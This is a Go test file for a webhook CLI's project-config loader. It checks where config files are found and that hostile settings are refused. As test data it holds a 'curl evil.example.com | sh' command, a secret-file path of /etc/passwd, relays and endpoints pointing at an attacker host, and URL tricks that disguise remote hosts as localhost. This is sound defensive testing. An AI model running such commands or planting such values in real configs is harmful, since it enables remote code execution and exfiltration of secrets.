package settings

import (
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
)

// project makes a folder with these files, by their paths, and returns it. A path that
// ends in a slash is a folder.
func project(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, name)
		must(t, os.MkdirAll(filepath.Dir(path), 0o700))
		if strings.HasSuffix(name, "/") {
			must(t, os.MkdirAll(path, 0o700))
		} else {
			must(t, os.WriteFile(path, []byte(flushLeft(text)), 0o600))
		}
	}
	return dir
}

func TestProjectFile(t *testing.T) {
	dir := project(t, map[string]string{ProjectFile: `
		config_version = 1
		endpoint = "shop"
		forward = "localhost:3000/hooks"
		events = ["document.*", "task.completed"]
		concurrency = 4
		timeout = "10s"
		verify = "strict"
		respond = "relay"
		methods = ["POST", "put"]
		port = 4700
		`})
	p, err := LoadProject(dir)
	must(t, err)
	for key, want := range map[string]string{
		"endpoint": "shop", "forward": "localhost:3000/hooks", "events": "document.*,task.completed",
		"concurrency": "4", "timeout": "10s", "verify": "strict", "respond": "relay", "methods": "POST,put", "port": "4700",
	} {
		if got, ok := p.Get(key); !ok || got != want {
			t.Errorf("%s: got %q, %v", key, got, ok)
		}
	}
	if _, ok := p.Get("relay"); ok {
		t.Error("the file sets a relay that isn't in it")
	}
	if p.Path != filepath.Join(dir, ProjectFile) {
		t.Errorf("the path is %s", p.Path)
	}
}

func TestWhereTheProjectFileIsFound(t *testing.T) {
	mine, other := `endpoint = "mine"`, `endpoint = "other"`
	tests := map[string]struct {
		files map[string]string
		want  string
	}{
		"here":                      {map[string]string{"a/b/solatis.toml": mine, "a/solatis.toml": other}, "mine"},
		"above":                     {map[string]string{"a/b/": "", "a/solatis.toml": mine, "solatis.toml": other}, "mine"},
		"at the repository":         {map[string]string{"a/b/": "", "a/.git/": "", "a/solatis.toml": mine}, "mine"},
		"above the repository":      {map[string]string{"a/b/": "", "a/.git/": "", "solatis.toml": other}, ""},
		"repository here":           {map[string]string{"a/b/.git": "gitdir: x", "a/solatis.toml": other}, ""},
		"far above":                 {map[string]string{"a/b/": "", "solatis.toml": mine}, "mine"},
		"nowhere up to /tmp itself": {map[string]string{"a/b/": ""}, ""},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			p, err := LoadProject(filepath.Join(project(t, tt.files), "a", "b"))
			must(t, err)
			if got, _ := p.Get("endpoint"); got != tt.want {
				t.Errorf("got %q", got)
			}
		})
	}
}

func TestFolderThatEverybodyMayWriteToIsNotSearched(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("Windows has no file modes")
	}
	dir := project(t, map[string]string{"a/b/": "", ProjectFile: `endpoint = "planted"`})
	must(t, os.Chmod(dir, 0o777|os.ModeSticky))
	p, err := LoadProject(filepath.Join(dir, "a", "b"))
	must(t, err)
	if p != nil {
		t.Errorf("it took %s", p.Path)
	}
	// The folder that the developer stands in is another matter: it was chosen.
	p, err = LoadProject(dir)
	must(t, err)
	if p == nil {
		t.Error("the file of the current folder is not found")
	}
}

// Each text is refused with exactly this message, in which FILE stands for the path.
func TestHostileProjectFile(t *testing.T) {
	const decide = "the file comes with the project, and only you decide about that; use the flag, or solatis config set"
	tests := map[string]struct{ text, want string }{
		"relay": {`
			endpoint = "shop"
			relay = "https://evil.example.com"`, `
			FILE:2: relay can't be set here: ` + decide + `
			2| relay = "https://evil.example.com"
			 | ~~~~~`},
		"relay's authority": {`relay-ca = "/tmp/ca.pem"`, `
			FILE:1: relay-ca can't be set here: ` + decide + `
			1| relay-ca = "/tmp/ca.pem"
			 | ~~~~~~~~`},
		"no TLS": {`insecure-relay = true`, `
			FILE:1: insecure-relay can't be set here: ` + decide + `
			1| insecure-relay = true
			 | ~~~~~~~~~~~~~~`},
		"a file to read": {`secret-file = "/etc/passwd"`, `
			FILE:1: secret-file can't be set here: ` + decide + `
			1| secret-file = "/etc/passwd"
			 | ~~~~~~~~~~~`},
		"everybody let in": {`bind = ["0.0.0.0"]`, `
			FILE:1: bind can't be set here: ` + decide + `
			1| bind = ["0.0.0.0"]
			 | ~~~~`},
		"secret": {`secret = "whsec_1"`, `
			FILE:1: unknown key "secret": ` + decide + `
			1| secret = "whsec_1"
			 | ~~~~~~ unknown field`},
		"API": {`api-base = "https://evil.example.com"`, `
			FILE:1: unknown key "api-base": ` + decide + `
			1| api-base = "https://evil.example.com"
			 | ~~~~~~~~ unknown field`},
		"command": {`
			[commands]
			start = "curl evil.example.com | sh"`, `
			FILE:1: unknown key "commands": ` + decide + `
			1| [commands]
			 |  ~~~~~~~~ missing table
			2| start = "curl evil.example.com | sh"`},
		"endpoint elsewhere": {`endpoint = "https://evil.example.com/e/1"`, `
			FILE:1: endpoint "https://evil.example.com/e/1": a name is 1 to 64 of A-Z, a-z, 0-9, dot, - and _
			1| endpoint = "https://evil.example.com/e/1"
			 | ~~~~~~~~`},
		"misspelt": {`evnets = ["task.*"]`, `
			FILE:1: unknown key "evnets": did you mean events?
			1| evnets = ["task.*"]
			 | ~~~~~~ unknown field`},
		"bad value": {`events = ["task.complete"]`, `
			FILE:1: events "task.complete": unknown event "task.complete": did you mean task.completed?
			1| events = ["task.complete"]
			 | ~~~~~~`},
		"escape sequence": {`forward = "localhost:3000/\u001b[2J"`, `
			FILE:1: forward "localhost:3000/\x1b[2J": it holds a control character
			1| forward = "localhost:3000/\u001b[2J"
			 | ~~~~~~~`},
		"newer": {`config_version = 9`, `FILE has config_version 9 and this solatis knows up to 1: update solatis`},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			dir := project(t, map[string]string{ProjectFile: tt.text})
			_, err := LoadProject(dir)
			if err == nil {
				t.Fatal("no error")
			}
			equal(t, strings.ReplaceAll(err.Error(), filepath.Join(dir, ProjectFile), "FILE"), flushLeft(tt.want))
		})
	}
}

// Only what is listed here may be set by a stranger; a new key is the developer's own
// unless somebody thinks about it.
func TestKeysOfAProject(t *testing.T) {
	var got []string
	for _, k := range Keys() {
		if k.Project {
			got = append(got, k.Name)
		}
	}
	equal(t, strings.Join(got, " "), "concurrency endpoint events forward methods port respond route timeout verify")
}

func TestProjectFileThatIsNoPlainFile(t *testing.T) {
	dir := project(t, map[string]string{"private": "password = 1", "here/": ""})
	if err := os.Symlink(filepath.Join(dir, "private"), filepath.Join(dir, "here", ProjectFile)); err != nil {
		t.Skip("no symbolic links here:", err)
	}
	_, err := LoadProject(filepath.Join(dir, "here"))
	checkError(t, err, filepath.Join(dir, "here", ProjectFile), "not a regular file")
	if strings.Contains(err.Error(), "password") {
		t.Errorf("the error shows the private file: %v", err)
	}

	dir = project(t, map[string]string{ProjectFile + "/": ""})
	_, err = LoadProject(dir)
	checkError(t, err, "not a regular file")
}

func TestRemoteTarget(t *testing.T) {
	local := []string{
		"3000", "3000/hooks", ":3000", ":3000/hooks", "localhost:3000", "LOCALHOST:3000/a?b=c", "127.0.0.1:3000", "[::1]:3000",
		"http://localhost", "https://localhost:3000/a", "http://[::1]:3000/a?b", "3000/a?next=http://evil.example.com",
		"http://localhost/@evil.example.com",
	}
	remote := []string{
		"evil.example.com:3000", "https://evil.example.com", "localhost.evil.example.com:80", "http://localhost@evil.example.com",
		"localhost:3000@evil.example.com:80", "http://127.0.0.1.evil.example.com", "127.1:3000", "http://[::ffff:10.0.0.1]:80",
		"0.0.0.0:3000", `http://localhost\@evil.example.com`, "//evil.example.com", "http://localhost:@evil.example.com", "10.0.0.1:3000",
		"locaLhoſt:3000", "http://evil.example.com/localhost:3000", "ftp://localhost",
	}
	for _, target := range local {
		p := &Project{values: map[string]string{"forward": target}}
		if got, isRemote := p.RemoteTarget(); isRemote || got != target {
			t.Errorf("%s counts as remote (%q)", target, got)
		}
	}
	for _, target := range remote {
		p := &Project{values: map[string]string{"forward": target}}
		if got, isRemote := p.RemoteTarget(); !isRemote || got != target {
			t.Errorf("%s counts as local (%q)", target, got)
		}
	}
	for i, target := range append(slices.Clone(local), remote...) {
		route := "task.*=" + target
		p := &Project{values: map[string]string{"route": joined([]string{"document.*=localhost:3000/a,b", route})}}
		if got, isRemote := p.RemoteRoute(); isRemote != (i >= len(local)) || isRemote && got != route {
			t.Errorf("route to %s: got %q, remote %v", target, got, isRemote)
		}
	}
	for _, p := range []*Project{nil, {}} {
		if _, isRemote := p.RemoteRoute(); isRemote {
			t.Error("no route is remote")
		}
	}
	if _, isRemote := (*Project)(nil).RemoteTarget(); isRemote {
		t.Error("no project has a remote target")
	}
}
